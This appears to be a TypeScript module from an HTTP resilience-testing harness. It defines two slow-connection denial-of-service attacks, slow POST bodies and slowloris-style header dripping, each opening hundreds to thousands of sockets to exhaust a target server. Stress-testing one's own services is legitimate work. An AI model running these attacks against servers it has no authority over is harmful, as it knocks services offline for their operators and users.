import { setTimeout as sleep } from 'node:timers/promises';
import { sized, type Attack } from '../attack.js';
import { connectMany, crowdAddress, tally } from '../sockets.js';

const uploadsTrickle: Attack = {
  name: 'uploads-trickle',
  about: 'Uploads that declare 30 MiB, or no length, and send a byte now and then.',
  limitMs: 150_000,
  run: async (target) => {
    const peers = await connectMany(target, sized(target, 200, 60), (number) => ({ from: crowdAddress(number) }));
    for (const [at, { socket }] of peers.entries()) {
      const framing = at % 2 === 0 ? 'content-length: 31457280' : 'transfer-encoding: chunked';
      socket.write(
        `POST /mj/submit/blend HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${target.key}\r\ncontent-type: application/json\r\n${framing}\r\n\r\n`,
      );
    }
    const until = performance.now() + sized(target, 60_000, 12_000);
    while (performance.now() < until) {
      for (const [at, { socket }] of peers.entries())
        if (!socket.destroyed) socket.write(at % 2 === 0 ? ' ' : '1\r\n \r\n');
      await sleep(1_000);
    }
    const open = peers.filter(({ socket }) => !socket.destroyed).length;
    const lines = peers.map(({ statusLine }) => statusLine() || 'no answer');
    for (const { socket } of peers) socket.destroy();
    return `${open} of ${peers.length} open at the end; ${tally(lines)}`;
  },
};

const headersDrip: Attack = {
  name: 'headers-drip',
  about: 'Connections that say nothing, or send a letter of a header each second.',
  limitMs: 120_000,
  run: async (target) => {
    const peers = await connectMany(target, sized(target, 3_000, 1_000), (number) => ({ from: crowdAddress(number) }));
    const until = performance.now() + sized(target, 40_000, 10_000);
    for (const [at, { socket }] of peers.entries())
      if (at % 2 === 0) socket.write('GET /docs HTTP/1.1\r\nhost: a\r\nx-long: ');
    while (performance.now() < until) {
      for (const [at, { socket }] of peers.entries()) if (at % 2 === 0 && !socket.destroyed) socket.write('a');
      await sleep(1_000);
    }
    const open = peers.filter(({ socket }) => !socket.destroyed).length;
    for (const { socket } of peers) socket.destroy();
    return `${open} of ${peers.length} open at the end`;
  },
};

export const SLOW: readonly Attack[] = [uploadsTrickle, headersDrip];
